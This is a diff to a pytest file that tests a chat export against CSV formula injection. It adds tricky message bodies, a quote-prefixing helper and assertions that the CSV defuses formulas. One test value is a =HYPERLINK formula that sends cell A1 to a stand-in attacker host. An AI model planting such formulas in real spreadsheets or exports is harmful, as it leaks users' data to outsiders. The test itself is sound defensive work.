@@ -46,7 +46,18 @@ TRICKY = [
     "=1+2 looks like a formula",
     "ünïcødé ✓ 🎉",
     "tab\there; semicolon",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tstarts with a tab",
+    "\rstarts with a carriage return",
 ]
+
+
+def csv_safe(value: str) -> str:
+    """What an export's CSV holds for `value`: formulas defused with a leading quote."""
+    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
 
 
 @pytest.fixture(scope="module")
@@ -334,14 +345,17 @@ async def test_export_jsonl_and_csv_match_the_history_and_only_readers_download(
         assert all(m["room"] == room and m["ts"].endswith("Z") for m in lines)
     assert tapi.client.get(done["download"], headers=outsider.headers).status_code == 404
     assert tapi.client.get(done["download"]).status_code == 401
-    # CSV: a header, then the same rows, quoting intact.
+    # CSV: a header, then the same rows, quoting intact, and anything a spreadsheet
+    # would run as a formula prefixed with a quote (JSONL above stays verbatim).
     csv_task = start(tapi, reader, "export", room=room, format="csv")
     done = wait_done(tapi, reader, csv_task["id"])
     r = tapi.client.get(f"/api/tasks/{csv_task['id']}/result", headers=owner.headers)
     assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(r.text)))
     assert rows[0] == ["room", "seq", "id", "ts", "user_id", "user", "body"]
-    assert [row[6] for row in rows[1:]] == bodies
+    assert [row[6] for row in rows[1:]] == [csv_safe(b) for b in bodies]
+    assert rows[6][6] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me") #5'
+    assert bodies[5].startswith("=HYPERLINK(")  # verbatim in JSONL (checked above)
     assert [int(row[1]) for row in rows[1:]] == seqs
     assert done["result"]["bytes"] == len(r.content)
 
